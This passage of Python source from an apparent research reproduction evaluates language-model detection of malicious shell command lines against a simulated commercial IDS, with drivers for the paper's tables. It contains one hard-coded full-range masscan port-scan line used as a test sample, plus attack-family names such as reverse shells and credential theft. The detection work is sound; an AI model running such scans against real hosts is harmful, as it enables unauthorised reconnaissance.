        "Liu & Mao seq2seq": Seq2SeqBaseline(epochs=3, seed=seed).fit(train).score(test),
    }
    # LM classification, scored on the same record stream.
    from repro.experiments.methods import training_subset
    from repro.tuning.classification import ClassificationTuner

    subset = training_subset(world, seed)
    tuner = ClassificationTuner(world.encoder, lr=1e-2, epochs=5, pooling="mean", seed=seed)
    tuner.fit(subset.lines, subset.labels)
    scorers["LM classification (ours)"] = tuner.score(test.lines())

    for method, scores in scorers.items():
        result.overall[method] = ranking_auc(scores, labels)
        if low_mask.any():
            result.low_history[method] = ranking_auc(scores[low_mask], labels[low_mask])
    return result


def main(config: WorldConfig | None = None) -> BaselineComparison:
    """Build the world, run the Section-VI comparison, print it."""
    world = build_world(config)
    result = run_baseline_comparison(world)
    print(result.render())
    ours = result.overall["LM classification (ours)"]
    best_prior = max(v for k, v in result.overall.items() if k != "LM classification (ours)")
    verdict = "LM classification leads" if ours > best_prior else "a prior method leads"
    print(f"\n{verdict} (paper's claim: profile methods degrade at cloud scale / on new users)")
    return result


if __name__ == "__main__":
    main()
