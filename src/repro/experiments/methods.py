"""Unified fit/score runners for the four Section-IV methods.

Each runner takes a built :class:`~repro.experiments.common.World` and a
seed, adapts the method on the noisy training labels, and returns scores
aligned with the world's de-duplicated test set.  The drivers for
Tables I/II and the ablations all go through these helpers so that every
method sees identical data.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.experiments.common import World
from repro.tuning.classification import ClassificationTuner
from repro.tuning.labels import LabeledDataset
from repro.tuning.multiline import MultiLineClassificationTuner, MultiLineComposer
from repro.tuning.reconstruction import ReconstructionTuner
from repro.tuning.retrieval import MajorityVoteKNN, RetrievalDetector

#: Learning rate used by the probing head at reproduction scale.  The
#: paper's 5e-5 is tuned for BERT-base embeddings; with a 64-d backbone
#: the same recipe needs a proportionally larger step (see DESIGN.md §5).
HEAD_LR = 1e-2
HEAD_EPOCHS = 5


def training_subset(world: World, seed: int) -> LabeledDataset:
    """The stratified tuning subsample for one run."""
    rng = np.random.default_rng(seed)
    return world.labeled_train.subsample(world.config.tuning_subsample, rng)


def run_classification(world: World, seed: int = 0, pooling: str = "mean") -> np.ndarray:
    """Single-line classification-based tuning (Sec. IV-B)."""
    subset = training_subset(world, seed)
    tuner = ClassificationTuner(
        world.encoder, lr=HEAD_LR, epochs=HEAD_EPOCHS, pooling=pooling, seed=seed
    )
    tuner.fit(subset.lines, subset.labels)
    return tuner.score(world.test_lines_dedup)


def run_reconstruction(world: World, seed: int = 0) -> np.ndarray:
    """Reconstruction-based tuning (Sec. IV-A, Eq. 2)."""
    subset = training_subset(world, seed)
    tuner = ReconstructionTuner(world.encoder, n_rounds=5, seed=seed)
    tuner.fit(subset.lines, subset.labels)
    return tuner.score(world.test_lines_dedup)


def run_retrieval(world: World, k: int = 1) -> np.ndarray:
    """Modified retrieval (Sec. IV-D); deterministic, no tuning."""
    detector = RetrievalDetector(world.encoder, k=k)
    detector.fit(world.labeled_train.lines, world.labeled_train.labels)
    return detector.score(world.test_lines_dedup)


def run_majority_knn(world: World, k: int = 5) -> np.ndarray:
    """Vanilla majority-vote kNN baseline (the method Sec. IV-D improves)."""
    detector = MajorityVoteKNN(world.encoder, k=k)
    detector.fit(world.labeled_train.lines, world.labeled_train.labels)
    return detector.score(world.test_lines_dedup)


@dataclass
class MultiLineEvaluationSet:
    """The de-duplicated multi-line test view (Sec. V-A note).

    The composed test set de-duplicates differently from the single-line
    one, so the paper reports only PO@v for multi-line classification;
    this bundle carries everything needed for that.
    """

    texts: list[str]
    truth: np.ndarray
    inbox_mask: np.ndarray


def build_multiline_eval(world: World, composer: MultiLineComposer) -> MultiLineEvaluationSet:
    """Compose the full (pre-dedup) test set, then dedup by composed text."""
    ordered = world.test.sorted_by_time()
    samples = composer.compose(ordered)
    seen: set[str] = set()
    texts: list[str] = []
    truth: list[int] = []
    inbox: list[bool] = []
    detections = world.ids.detect(ordered.lines()).astype(bool)
    for sample in samples:
        if sample.text in seen:
            continue
        seen.add(sample.text)
        record = ordered[sample.record_index]
        texts.append(sample.text)
        truth.append(int(record.is_malicious))
        inbox.append(bool(detections[sample.record_index]))
    return MultiLineEvaluationSet(
        texts=texts, truth=np.array(truth), inbox_mask=np.array(inbox, dtype=bool)
    )


def run_multiline(
    world: World, seed: int = 0, window: int = 3
) -> tuple[np.ndarray, MultiLineEvaluationSet]:
    """Multi-line classification (Sec. IV-C): scores + its own eval set."""
    composer = MultiLineComposer(window=window)
    tuner = MultiLineClassificationTuner(
        world.encoder, composer=composer, lr=HEAD_LR, epochs=HEAD_EPOCHS, pooling="mean", seed=seed
    )
    train_ordered = world.train.sorted_by_time()
    labels = world.ids.label(train_ordered.lines())
    tuner.fit_dataset(train_ordered, labels)
    evaluation = build_multiline_eval(world, composer)
    scores = tuner.score(evaluation.texts)
    return scores, evaluation
