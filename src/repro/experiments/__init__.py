"""Experiment drivers, one per table/figure of the paper (DESIGN.md §4).

Each module exposes ``run_*`` (operates on a built world) and ``main``
(builds the world first); all are runnable as ``python -m
repro.experiments.<name>``.
"""

from repro.experiments.common import (
    World,
    WorldConfig,
    build_world,
    clear_world_cache,
    default_world_config,
    preprocess_dataset,
)

__all__ = [
    "World",
    "WorldConfig",
    "build_world",
    "clear_world_cache",
    "default_world_config",
    "preprocess_dataset",
]
