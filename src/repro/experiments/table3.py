"""Table III — qualitative in-box vs out-of-box example pairs.

The paper's table shows paired examples: an intrusion the commercial IDS
catches (left) next to a functional sibling it misses but the tuned
model flags (right) — nc flag variants, the masscan wrapper script,
reverse shells through different interpreters, http→socks5 proxies, and
base64 pipelines across languages.

This driver regenerates the table from the live system: for each attack
family it instantiates an in-box and an out-of-box example, confirms the
commercial IDS's verdicts, and reports the tuned model's scores for
both.  Run with ``python -m repro.experiments.table3``.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.evaluation.reporting import format_table
from repro.experiments.common import World, WorldConfig, build_world
from repro.experiments.methods import training_subset
from repro.loggen.attacks import ATTACK_FAMILIES, AttackSampler
from repro.tuning.classification import ClassificationTuner


@dataclass
class ExamplePair:
    """One row of the Table III reproduction."""

    family: str
    inbox_line: str
    outbox_line: str
    ids_flags_inbox: bool
    ids_flags_outbox: bool
    model_score_inbox: float
    model_score_outbox: float

    @property
    def demonstrates_generalization(self) -> bool:
        """The paper's point: IDS misses the right column, model flags it."""
        return (
            self.ids_flags_inbox
            and not self.ids_flags_outbox
            and self.model_score_outbox >= 0.5
        )


@dataclass
class Table3Result:
    """All example pairs plus the fitted scorer's provenance."""

    pairs: list[ExamplePair]

    def render(self) -> str:
        """The qualitative table as text."""
        rows = []
        for pair in self.pairs:
            rows.append([
                pair.family,
                pair.inbox_line[:52],
                "yes" if pair.ids_flags_inbox else "NO",
                f"{pair.model_score_inbox:.2f}",
                pair.outbox_line[:52],
                "yes" if pair.ids_flags_outbox else "no",
                f"{pair.model_score_outbox:.2f}",
            ])
        return format_table(
            ["family", "in-box example", "IDS", "model", "out-of-box example", "IDS", "model"],
            rows,
            title="Table III — in-box vs out-of-box examples (IDS verdict / model score)",
        )

    @property
    def n_generalized(self) -> int:
        """Rows where the model digs out what the IDS missed."""
        return sum(pair.demonstrates_generalization for pair in self.pairs)


def run_table3(world: World, seed: int = 0) -> Table3Result:
    """Generate fresh example pairs and score them with a tuned model."""
    subset = training_subset(world, seed)
    tuner = ClassificationTuner(world.encoder, lr=1e-2, epochs=5, pooling="mean", seed=seed)
    tuner.fit(subset.lines, subset.labels)
    sampler = AttackSampler(np.random.default_rng(seed + 17))
    pairs: list[ExamplePair] = []
    for family in ATTACK_FAMILIES:
        inbox_line = sampler.sample(family.name, inbox=True)[0]
        outbox_line = sampler.sample(family.name, inbox=False)[0]
        scores = tuner.score([inbox_line, outbox_line])
        pairs.append(
            ExamplePair(
                family=family.name,
                inbox_line=inbox_line,
                outbox_line=outbox_line,
                ids_flags_inbox=bool(world.ids.detect([inbox_line])[0]),
                ids_flags_outbox=bool(world.ids.detect([outbox_line])[0]),
                model_score_inbox=float(scores[0]),
                model_score_outbox=float(scores[1]),
            )
        )
    return Table3Result(pairs=pairs)


def main(config: WorldConfig | None = None) -> Table3Result:
    """Build the world, regenerate Table III, print it."""
    world = build_world(config)
    result = run_table3(world)
    print(result.render())
    print(f"\nout-of-box examples dug out by the model: {result.n_generalized}/{len(result.pairs)}")
    return result


if __name__ == "__main__":
    main()
