"""Shared world-building for all experiment drivers.

A *world* is everything the paper's evaluation needs: a generated
train/test telemetry split, the pre-processing pipeline, a trained BPE
tokenizer, a pre-trained command-line LM, the commercial-IDS supervision
source, noisy training labels, and the de-duplicated test set with
ground truth and in-box masks.

Worlds are cached per-configuration within a process so that the
benchmark modules (one per table/figure) can share the expensive
pre-training step.
"""

from __future__ import annotations

import os
from dataclasses import dataclass, field, replace
from datetime import datetime

import numpy as np

from repro.ids.commercial import CommercialIDS
from repro.lm.config import LMConfig
from repro.lm.encoder_api import CommandEncoder
from repro.lm.masking import MLMCollator
from repro.lm.model import CommandLineLM
from repro.lm.pretrain import Pretrainer, PretrainReport
from repro.loggen.dataset import CommandDataset
from repro.loggen.entities import Variant
from repro.loggen.fleet import FleetConfig, FleetSimulator
from repro.preprocess.pipeline import PreprocessingPipeline, PreprocessingStats
from repro.tokenizer.bpe import BPETokenizer
from repro.tuning.labels import LabeledDataset, label_with_ids


@dataclass(frozen=True)
class WorldConfig:
    """Scale and seeds for one reproduction world.

    The defaults are the "small" reproduction scale; set the environment
    variable ``REPRO_SCALE=full`` (read by :func:`default_world_config`)
    for a larger run closer to the paper's regime.
    """

    train_lines: int = 12_000
    test_lines: int = 6_000
    train_attack_session_rate: float = 0.08
    train_outbox_fraction: float = 0.35
    test_attack_session_rate: float = 0.18
    test_outbox_fraction: float = 0.6
    vocab_size: int = 1_200
    pretrain_epochs: int = 4
    pretrain_lr: float = 1e-3
    pretrain_batch_size: int = 32
    mask_prob: float = 0.15
    hidden_size: int = 64
    n_layers: int = 2
    n_heads: int = 4
    max_position: int = 48
    tuning_subsample: int = 5_000
    top_vs: tuple[int, ...] = (25, 100)
    recall_target: float = 0.98
    seed: int = 0

    def scaled(self, **overrides) -> "WorldConfig":
        """A copy with the given fields replaced."""
        return replace(self, **overrides)


def default_world_config() -> WorldConfig:
    """The config selected by the ``REPRO_SCALE`` environment variable.

    ``small`` (default) keeps every benchmark in the minutes range;
    ``full`` quadruples data and model for a closer-to-paper run;
    ``smoke`` is for CI-style quick checks.
    """
    scale = os.environ.get("REPRO_SCALE", "small").lower()
    if scale == "smoke":
        return WorldConfig(
            train_lines=2_500,
            test_lines=1_500,
            vocab_size=600,
            pretrain_epochs=1,
            tuning_subsample=1_500,
            top_vs=(10, 100),
        )
    if scale == "full":
        return WorldConfig(
            train_lines=48_000,
            test_lines=24_000,
            test_attack_session_rate=0.22,
            vocab_size=4_000,
            pretrain_epochs=4,
            hidden_size=96,
            n_layers=3,
            tuning_subsample=12_000,
            top_vs=(100, 1000),
        )
    return WorldConfig()


@dataclass
class World:
    """All fitted artifacts of one reproduction world (see module docs)."""

    config: WorldConfig
    train_raw: CommandDataset
    test_raw: CommandDataset
    train: CommandDataset
    test: CommandDataset
    test_dedup: CommandDataset
    preprocess_stats: PreprocessingStats
    pipeline: PreprocessingPipeline
    tokenizer: BPETokenizer
    model: CommandLineLM
    encoder: CommandEncoder
    ids: CommercialIDS
    labeled_train: LabeledDataset
    pretrain_report: PretrainReport
    truth: np.ndarray = field(default_factory=lambda: np.zeros(0))
    inbox_mask: np.ndarray = field(default_factory=lambda: np.zeros(0, dtype=bool))

    @property
    def test_lines_dedup(self) -> list[str]:
        """De-duplicated test command lines (the evaluation unit)."""
        return self.test_dedup.lines()

    def outbox_truth_count(self) -> int:
        """Number of unique out-of-box intrusions in the dedup test set."""
        return int((self.truth.astype(bool) & ~self.inbox_mask).sum())


def preprocess_dataset(pipeline: PreprocessingPipeline, dataset: CommandDataset) -> CommandDataset:
    """Filter a dataset through a fitted pipeline, keeping record metadata."""
    kept = []
    for record in dataset:
        line = pipeline.normalizer(record.line)
        if not line:
            continue
        if not pipeline._validator.is_valid(line):
            continue
        if not pipeline._command_filter.accepts(line):  # noqa: SLF001 — intra-package use
            continue
        kept.append(record.replace_line(line))
    return CommandDataset(kept)


_WORLD_CACHE: dict[WorldConfig, World] = {}


def build_world(config: WorldConfig | None = None, use_cache: bool = True) -> World:
    """Build (or fetch from cache) the full reproduction world."""
    config = config or default_world_config()
    if use_cache and config in _WORLD_CACHE:
        return _WORLD_CACHE[config]

    fleet_config = FleetConfig(
        seed=config.seed,
        attack_session_rate=config.train_attack_session_rate,
        outbox_fraction=config.train_outbox_fraction,
    )
    simulator = FleetSimulator(fleet_config)
    train_raw = simulator.generate(datetime(2022, 5, 1), days=7, target_lines=config.train_lines)
    test_raw = simulator.generate(
        datetime(2022, 5, 29),
        days=3,
        target_lines=config.test_lines,
        attack_session_rate=config.test_attack_session_rate,
        outbox_fraction=config.test_outbox_fraction,
    )

    # Pre-processing (Fig. 2): fit the concerned-command list on training
    # data, then filter both windows.
    pipeline = PreprocessingPipeline(min_command_count=2)
    pipeline.fit(train_raw.lines())
    _, stats = pipeline.transform(train_raw.lines())
    train = preprocess_dataset(pipeline, train_raw)
    test = preprocess_dataset(pipeline, test_raw)
    test_dedup = test.deduplicated()

    # Tokenizer + MLM pre-training (Sec. II-B).
    tokenizer = BPETokenizer(vocab_size=config.vocab_size, min_pair_frequency=2)
    tokenizer.train(train.lines())
    lm_config = LMConfig(
        vocab_size=len(tokenizer.vocab),
        hidden_size=config.hidden_size,
        n_layers=config.n_layers,
        n_heads=config.n_heads,
        intermediate_size=config.hidden_size * 2,
        max_position=config.max_position,
        mask_prob=config.mask_prob,
        seed=config.seed,
    )
    model = CommandLineLM(lm_config)
    collator = MLMCollator(
        tokenizer, mask_prob=config.mask_prob, max_length=config.max_position, seed=config.seed
    )
    pretrainer = Pretrainer(
        model,
        collator,
        lr=config.pretrain_lr,
        batch_size=config.pretrain_batch_size,
        seed=config.seed,
    )
    report = pretrainer.train(train.lines(), epochs=config.pretrain_epochs)
    encoder = CommandEncoder(model, tokenizer, pooling="mean")

    # Supervision source and noisy training labels (Sec. IV).
    ids = CommercialIDS(seed=config.seed)
    labeled_train = label_with_ids(train, ids)

    world = World(
        config=config,
        train_raw=train_raw,
        test_raw=test_raw,
        train=train,
        test=test,
        test_dedup=test_dedup,
        preprocess_stats=stats,
        pipeline=pipeline,
        tokenizer=tokenizer,
        model=model,
        encoder=encoder,
        ids=ids,
        labeled_train=labeled_train,
        pretrain_report=report,
        truth=test_dedup.labels(),
        inbox_mask=ids.detect(test_dedup.lines()).astype(bool),
    )
    if use_cache:
        _WORLD_CACHE[config] = world
    return world


def clear_world_cache() -> None:
    """Drop all cached worlds (used by tests)."""
    _WORLD_CACHE.clear()
