"""Section V-B — F1 comparison against the commercial IDS.

Paper's numbers: classification-based tuning reaches precision 99.4%,
recall 100% on its predicted-positive set → F1 = 99.7%; the commercial
IDS (precision assumed 100%) recalls only ``uS/(xT+u(1−x)S) ≈ 97.4%`` →
F1 = 98.7%.  The tuned model wins on F1 because it recalls out-of-box
intrusions the signature IDS cannot see.

Run with ``python -m repro.experiments.f1_comparison``.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.evaluation.comparison import F1Comparison, compare_with_commercial_ids
from repro.evaluation.metrics import evaluate_method
from repro.evaluation.reporting import format_table
from repro.experiments.common import World, WorldConfig, build_world
from repro.experiments.methods import run_classification

PAPER_F1 = {"ours": 0.997, "ids": 0.987, "ours_recall": 1.0, "ids_recall": 0.974}


@dataclass
class F1Result:
    """Our measured comparison plus the paper's reference values."""

    comparison: F1Comparison
    s_commercial: int
    t_predicted: int

    def render(self) -> str:
        """The comparison table as text."""
        c = self.comparison
        rows = [
            ["ours (classification)", f"{c.ours_precision:.3f}", f"{c.ours_recall:.3f}",
             f"{c.ours_f1:.3f}", f"{PAPER_F1['ours']:.3f}"],
            ["commercial IDS", f"{c.ids_precision:.3f}", f"{c.ids_recall:.3f}",
             f"{c.ids_f1:.3f}", f"{PAPER_F1['ids']:.3f}"],
        ]
        return format_table(
            ["system", "precision", "recall", "F1 (ours)", "F1 (paper)"],
            rows,
            title=(
                "Section V-B — F1 on the predicted-positive set "
                f"(S={self.s_commercial} IDS detections, T={self.t_predicted} predicted positives)"
            ),
        )


def run_f1_comparison(world: World, seed: int = 0) -> F1Result:
    """Reproduce the Section V-B comparison on an already-built world."""
    scores = run_classification(world, seed=seed)
    u = world.config.recall_target
    evaluation = evaluate_method(
        "classification", scores, world.truth, world.inbox_mask,
        recall_target=u, top_vs=world.config.top_vs,
    )
    s_commercial = int((world.inbox_mask & world.truth.astype(bool)).sum())
    comparison = compare_with_commercial_ids(
        poi=evaluation.poi,
        po=evaluation.po,
        n_predicted_positive=evaluation.n_predicted_positive,
        s_commercial_detections=s_commercial,
        u=evaluation.inbox_recall,
    )
    return F1Result(
        comparison=comparison,
        s_commercial=s_commercial,
        t_predicted=evaluation.n_predicted_positive,
    )


def main(config: WorldConfig | None = None) -> F1Result:
    """Build the world, run the comparison, print it."""
    world = build_world(config)
    result = run_f1_comparison(world)
    print(result.render())
    verdict = "model wins on F1" if result.comparison.model_wins else "commercial IDS wins on F1"
    print(f"\n{verdict} (paper: model wins, 99.7% vs 98.7%)")
    return result


if __name__ == "__main__":
    main()
