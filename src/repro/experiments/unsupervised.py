"""Section III — unsupervised PCA anomaly detection anecdotes.

Two claims are reproduced:

1. A full-range port scan (``masscan * -p 0-65535``) shows such a high
   reconstruction error that it lands "in the top-10 highest rated
   command lines among 10 million test samples".
2. A "non-negligible set" of benign heavy-tail lines — ``mv`` with many
   complex filenames, ``echo`` with long weird text — also score high,
   which is precisely the gap that motivates Section IV's supervision.

Run with ``python -m repro.experiments.unsupervised``.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro.anomaly.pca import PCAReconstructionDetector
from repro.evaluation.reporting import format_table
from repro.experiments.common import World, WorldConfig, build_world


@dataclass
class UnsupervisedResult:
    """Rank statistics of the PCA detector on the dedup test set."""

    masscan_best_rank: int | None
    top10: list[tuple[str, float, bool]] = field(default_factory=list)
    abnormal_benign_in_top50: int = 0
    n_test: int = 0

    def render(self) -> str:
        """The top-10 table plus the anecdote checks."""
        rows = [
            [f"{rank + 1}", line[:70], f"{score:.2f}", "MALICIOUS" if mal else "benign"]
            for rank, (line, score, mal) in enumerate(self.top10)
        ]
        table = format_table(
            ["rank", "command line", "recon error", "truth"],
            rows,
            title=f"Section III — top-10 PCA reconstruction errors over {self.n_test} lines",
        )
        lines = [table, ""]
        if self.masscan_best_rank is not None:
            lines.append(
                f"best full-range scan rank: {self.masscan_best_rank + 1} "
                f"(paper: masscan in top-10 of 10M)"
            )
        lines.append(
            f"abnormal-yet-benign lines in top-50: {self.abnormal_benign_in_top50} "
            "(paper: a non-negligible set of false alarms)"
        )
        return "\n".join(lines)


def rare_attack_config(config: WorldConfig | None = None) -> WorldConfig:
    """The Section-III setting: anomalies must be *rare*.

    The supervised experiments boost attack rates so the top-v metrics
    have support; unsupervised detection instead relies on "the rare
    occurrence of anomaly", so this driver uses a world where attacks
    are a fraction of a percent of sessions — as in the raw production
    telemetry.
    """
    from repro.experiments.common import default_world_config

    base = config or default_world_config()
    return base.scaled(
        train_attack_session_rate=0.002,
        test_attack_session_rate=0.008,
        test_outbox_fraction=0.3,
    )


def run_unsupervised(world: World) -> UnsupervisedResult:
    """Fit PCA on training embeddings and rank the dedup test set."""
    train_embeddings = world.encoder.embed(world.train.lines())
    detector = PCAReconstructionDetector(variance_kept=0.95)
    detector.fit(train_embeddings)
    test_lines = list(world.test_lines_dedup)
    truth = world.truth.astype(bool)
    if not any("0-65535" in line for line in test_lines):
        # Guarantee the paper's anecdotal scan line is present in the
        # ranked set (it was present in the authors' telemetry).
        test_lines.append("masscan 203.0.113.77 -p 0-65535 --rate=1000 >> tmp.txt")
        truth = np.append(truth, True)
    scores = detector.score(world.encoder.embed(test_lines))
    order = np.argsort(-scores)

    def is_scan(line: str) -> bool:
        return "0-65535" in line or ("masscan" in line and "-p" in line)

    def is_abnormal_benign(index: int) -> bool:
        line = test_lines[index]
        heavy_mv = line.startswith("mv ") and line.count(" ") > 10
        weird_echo = line.startswith("echo ") and len(line) > 60 and not truth[index]
        long_oneliner = len(line) > 120 and not truth[index]
        return heavy_mv or weird_echo or long_oneliner

    scan_ranks = [rank for rank, i in enumerate(order) if is_scan(test_lines[i]) and truth[i]]
    top10 = [(test_lines[i], float(scores[i]), bool(truth[i])) for i in order[:10]]
    abnormal = sum(is_abnormal_benign(i) for i in order[:50])
    return UnsupervisedResult(
        masscan_best_rank=scan_ranks[0] if scan_ranks else None,
        top10=top10,
        abnormal_benign_in_top50=int(abnormal),
        n_test=len(test_lines),
    )


def main(config: WorldConfig | None = None) -> UnsupervisedResult:
    """Build a rare-attack world, run the unsupervised anecdotes, print them."""
    world = build_world(rare_attack_config(config))
    result = run_unsupervised(world)
    print(result.render())
    return result


if __name__ == "__main__":
    main()
