"""Table I — PO and PO&I of the supervised methods, mean ± std over runs.

Paper's numbers (30M/10M-line corpus, BERT-base):

==================  =============  =============
method              PO             PO&I
==================  =============  =============
Reconstruction      0.913 ± 0.050  0.999 ± 0.000
Classification      0.832 ± 0.070  0.994 ± 0.003
Retrieval           0.569          0.892
==================  =============  =============

(Retrieval needs no tuning, hence a single run.)  Run with
``python -m repro.experiments.table1``.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.evaluation.metrics import evaluate_method
from repro.evaluation.reporting import format_table
from repro.evaluation.runs import Aggregate, aggregate
from repro.experiments.common import World, WorldConfig, build_world
from repro.experiments.methods import run_classification, run_reconstruction, run_retrieval

#: The paper's Table I values, used in the printed comparison.
PAPER_TABLE1 = {
    "reconstruction": {"po": "0.913 ± 0.050", "poi": "0.999 ± 0.000"},
    "classification": {"po": "0.832 ± 0.070", "poi": "0.994 ± 0.003"},
    "retrieval": {"po": "0.569", "poi": "0.892"},
}


@dataclass
class Table1Result:
    """Aggregated Table-I metrics for this reproduction."""

    reconstruction_po: Aggregate
    reconstruction_poi: Aggregate
    classification_po: Aggregate
    classification_poi: Aggregate
    retrieval_po: float
    retrieval_poi: float
    n_runs: int

    def rows(self) -> list[list[str]]:
        """Rows comparing measured values with the paper's."""
        return [
            ["Reconstruction", str(self.reconstruction_po), str(self.reconstruction_poi),
             PAPER_TABLE1["reconstruction"]["po"], PAPER_TABLE1["reconstruction"]["poi"]],
            ["Classification", str(self.classification_po), str(self.classification_poi),
             PAPER_TABLE1["classification"]["po"], PAPER_TABLE1["classification"]["poi"]],
            ["Retrieval", f"{self.retrieval_po:.3f}", f"{self.retrieval_poi:.3f}",
             PAPER_TABLE1["retrieval"]["po"], PAPER_TABLE1["retrieval"]["poi"]],
        ]

    def render(self) -> str:
        """The comparison table as text."""
        return format_table(
            ["method", "PO (ours)", "PO&I (ours)", "PO (paper)", "PO&I (paper)"],
            self.rows(),
            title=f"Table I — precision at the u≈100% in-box-recall threshold ({self.n_runs} runs)",
        )


def run_table1(world: World, n_runs: int = 5) -> Table1Result:
    """Reproduce Table I on an already-built world."""
    u = world.config.recall_target
    recon_po, recon_poi, clf_po, clf_poi = [], [], [], []
    for run in range(n_runs):
        scores = run_reconstruction(world, seed=run)
        ev = evaluate_method("reconstruction", scores, world.truth, world.inbox_mask,
                             recall_target=u, top_vs=world.config.top_vs)
        recon_po.append(ev.po)
        recon_poi.append(ev.poi)
        scores = run_classification(world, seed=run)
        ev = evaluate_method("classification", scores, world.truth, world.inbox_mask,
                             recall_target=u, top_vs=world.config.top_vs)
        clf_po.append(ev.po)
        clf_poi.append(ev.poi)
    retrieval_scores = run_retrieval(world)
    retrieval_ev = evaluate_method("retrieval", retrieval_scores, world.truth, world.inbox_mask,
                                   recall_target=u, top_vs=world.config.top_vs)
    return Table1Result(
        reconstruction_po=aggregate(recon_po),
        reconstruction_poi=aggregate(recon_poi),
        classification_po=aggregate(clf_po),
        classification_poi=aggregate(clf_poi),
        retrieval_po=retrieval_ev.po,
        retrieval_poi=retrieval_ev.poi,
        n_runs=n_runs,
    )


def main(config: WorldConfig | None = None, n_runs: int = 5) -> Table1Result:
    """Build the world, reproduce Table I, print it."""
    world = build_world(config)
    result = run_table1(world, n_runs=n_runs)
    print(result.render())
    return result


if __name__ == "__main__":
    main()
