"""Figure 2 — pre-processing with the parser and the command filter.

The figure shows raw logs flowing through the bash parser (dropping
un-executable lines like ``/*/*/* -> /*/*/* ->``) and a concerned-command
filter built from an occurrence table (dropping typo'd names like
``dcoker`` and ``chdmod``).  This driver reproduces both artifacts: the
stage-by-stage removal counts and the command occurrence table.

Run with ``python -m repro.experiments.figure2``.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.evaluation.reporting import format_table
from repro.experiments.common import World, WorldConfig, build_world
from repro.preprocess.pipeline import PreprocessingStats


@dataclass
class Figure2Result:
    """Pre-processing statistics plus the occurrence table."""

    stats: PreprocessingStats
    concerned_commands: int

    def render(self) -> str:
        """Both Figure-2 artifacts as text tables."""
        stage_rows = [[name, str(count)] for name, count in self.stats.as_rows()]
        stages = format_table(["stage", "lines"], stage_rows,
                              title="Figure 2 — pre-processing funnel")
        occurrence_rows = [
            [name, str(count)] for name, count in self.stats.occurrence_table[:15]
        ]
        occurrences = format_table(
            ["command", "occurrence"], occurrence_rows,
            title=f"Figure 2 — command occurrence table ({self.concerned_commands} concerned commands)",
        )
        return stages + "\n\n" + occurrences


def run_figure2(world: World) -> Figure2Result:
    """Extract the Figure-2 artifacts from an already-built world."""
    return Figure2Result(
        stats=world.preprocess_stats,
        concerned_commands=len(world.pipeline.concerned_commands),
    )


def main(config: WorldConfig | None = None) -> Figure2Result:
    """Build the world and print the Figure-2 reproduction."""
    world = build_world(config)
    result = run_figure2(world)
    print(result.render())
    return result


if __name__ == "__main__":
    main()
