"""The weekly-learning claim from the paper's introduction, quantified.

Setup: weeks 1–2 of telemetry contain no cryptominer activity; in week
3 a miner campaign appears (in-box variants, so the commercial IDS
labels some of them).  Two systems face week 3's out-of-box miner
variants:

- **frozen** — pre-trained and tuned once on weeks 1–2, never updated;
- **continual** — runs the weekly loop ("continuously learn ... every
  week"), consuming week 3 and re-tuning before being evaluated.

The continual system should recover the new family's out-of-box
variants; the frozen one has never seen a miner label.

Run with ``python -m repro.experiments.continual``.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime

import numpy as np

from repro.evaluation.reporting import format_table
from repro.experiments.common import WorldConfig, default_world_config
from repro.ids.commercial import CommercialIDS
from repro.lm.config import LMConfig
from repro.lm.continual import ContinualLearner
from repro.lm.encoder_api import CommandEncoder
from repro.lm.masking import MLMCollator
from repro.lm.model import CommandLineLM
from repro.lm.pretrain import Pretrainer
from repro.loggen.attacks import AttackSampler
from repro.loggen.fleet import FleetConfig, FleetSimulator
from repro.tokenizer.bpe import BPETokenizer
from repro.tuning.classification import ClassificationTuner
from repro.tuning.labels import label_with_ids

#: The family withheld from early weeks and introduced in week 3.
EMERGING_FAMILY = "crypto_miner"


@dataclass
class ContinualResult:
    """Detection of the emerging family, frozen vs weekly-updated."""

    frozen_scores: list[float]
    continual_scores: list[float]
    probe_lines: list[str]

    def render(self) -> str:
        """Per-probe score table as text."""
        rows = [
            [line[:56], f"{frozen:.3f}", f"{updated:.3f}"]
            for line, frozen, updated in zip(
                self.probe_lines, self.frozen_scores, self.continual_scores
            )
        ]
        return format_table(
            ["week-3 out-of-box miner variant", "frozen", "weekly-updated"],
            rows,
            title="Intro claim — weekly learning digs out the emerging family",
        )

    @property
    def mean_gain(self) -> float:
        """Mean score lift from the weekly update on the probes."""
        return float(np.mean(self.continual_scores) - np.mean(self.frozen_scores))


def run_continual(config: WorldConfig | None = None, seed: int = 0) -> ContinualResult:
    """Simulate three weeks and compare frozen vs weekly-updated systems."""
    config = config or default_world_config()
    known_families = [
        "reverse_shell", "port_scan", "base64_exec", "proxy_tunnel",
        "download_exec", "credential_theft", "persistence",
    ]
    early = FleetSimulator(FleetConfig(
        seed=config.seed + seed,
        attack_session_rate=config.train_attack_session_rate,
        outbox_fraction=config.train_outbox_fraction,
        attack_families=known_families,
    ))
    week12 = early.generate(datetime(2022, 5, 1), days=14, target_lines=config.train_lines)
    late = FleetSimulator(FleetConfig(
        seed=config.seed + seed + 1,
        attack_session_rate=config.train_attack_session_rate * 2,
        outbox_fraction=0.0,  # the campaign arrives with signature-visible tooling
        attack_families=[EMERGING_FAMILY, *known_families],
    ))
    week3 = late.generate(datetime(2022, 5, 15), days=7, target_lines=config.train_lines // 2)

    # Initial training on weeks 1–2.
    tokenizer = BPETokenizer(vocab_size=config.vocab_size).train(week12.lines())
    lm_config = LMConfig(
        vocab_size=len(tokenizer.vocab),
        hidden_size=config.hidden_size,
        n_layers=config.n_layers,
        n_heads=config.n_heads,
        intermediate_size=config.hidden_size * 2,
        max_position=config.max_position,
        seed=config.seed,
    )
    model = CommandLineLM(lm_config)
    collator = MLMCollator(tokenizer, mask_prob=config.mask_prob,
                           max_length=config.max_position, seed=config.seed)
    Pretrainer(model, collator, lr=config.pretrain_lr, batch_size=config.pretrain_batch_size,
               seed=config.seed).train(week12.lines(), epochs=config.pretrain_epochs)
    ids = CommercialIDS(seed=config.seed)
    labeled = label_with_ids(week12, ids)

    frozen_encoder = CommandEncoder(model, tokenizer, pooling="mean")
    frozen = ClassificationTuner(frozen_encoder, lr=1e-2, epochs=5, pooling="mean", seed=seed)
    frozen.fit(labeled.lines, labeled.labels)

    # The continual system starts from the same checkpoint (deep copy).
